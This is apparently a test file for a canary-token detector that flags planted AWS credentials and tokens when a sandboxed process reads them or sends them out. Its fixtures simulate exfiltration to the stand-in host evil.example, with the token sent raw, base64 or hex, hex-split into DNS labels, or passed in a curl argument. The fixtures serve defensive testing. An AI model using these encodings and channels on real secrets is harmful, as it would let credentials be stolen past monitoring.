import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Connection, FileAccess } from '../record/schema.ts';
import { findCanaryHits } from './find-canary-hits.ts';
import { makeCanaries } from './make-canaries.ts';

const canaries = makeCanaries('0123456789abcdef');
const none = { files: [], commands: [], dns: [], connections: [], payloads: [], indexPaths: [] };

function connection(preview: string): Connection {
  return {
    protocol: 'tcp',
    ip: '127.53.0.1',
    port: 5566,
    hostname: 'evil.example',
    sent_bytes: preview.length,
    sent_preview: preview,
    http: null,
    tls_sni: null,
    time: 1,
    pids: [],
  };
}

test('a clean phase has no canary hits', () => {
  assert.deepEqual(findCanaryHits(canaries, none), []);
});

test('reading a canary file is a hit, a failed open is not', () => {
  const aws = canaries.files.find((f) => f.canary === 'aws-credentials');
  assert.ok(aws);
  const read: FileAccess = {
    path: aws.path,
    ops: ['read'],
    flags: [],
    count: 1,
    failed: 0,
    errors: [],
    pids: [42],
  };
  const hits = findCanaryHits(canaries, { ...none, files: [read] });
  assert.equal(hits.length, 1);
  assert.equal(hits[0]?.how, 'read');
  assert.equal(hits[0]?.canary, 'aws-credentials');
  const failed: FileAccess = { ...read, failed: 1, errors: ['EACCES'] };
  assert.deepEqual(findCanaryHits(canaries, { ...none, files: [failed] }), []);
});

test('a canary value sent raw, base64-encoded inside a blob, or hex is found', () => {
  const token = canaries.values.find((v) => v.canary === 'git-config-ci-token');
  assert.ok(token);
  const raw = connection(`ci-token = ${token.value}\n`);
  const b64 = Buffer.from(`junk-prefix-${token.value}-suffix`).toString('base64');
  const hex = Buffer.from(token.value).toString('hex');
  const shifted = [0, 1, 2, 3, 4, 5].map(
    (n) => `d=${Buffer.from(`${'j'.repeat(n)}${token.value}!`).toString('base64')}`,
  );
  for (const preview of [raw.sent_preview, `data=${b64}`, `x=${hex}`, ...shifted]) {
    const hits = findCanaryHits(canaries, { ...none, connections: [connection(preview)] });
    assert.equal(hits.length, 1, preview);
    assert.equal(hits[0]?.how, 'sent');
  }
});

test('canary values in DNS labels and argv are found', () => {
  const env = canaries.values.find((v) => v.canary === 'env:GITHUB_TOKEN');
  assert.ok(env);
  const hex = Buffer.from(env.value).toString('hex');
  const dns = [
    {
      name: `${hex.slice(0, 40)}.${hex.slice(40)}.t.example`,
      type: 'A',
      time: 0,
      answer: null,
      server: null,
    },
  ];
  const commands = [
    { argv: ['curl', '-d', env.value, 'x'], cwd: '/', pid: 7, ppid: 1, time: 0, exe: '/usr/bin/curl' },
  ];
  const hits = findCanaryHits(canaries, { ...none, dns, commands });
  assert.deepEqual(hits.map((h) => h.how).sort(), ['argv', 'dns']);
});
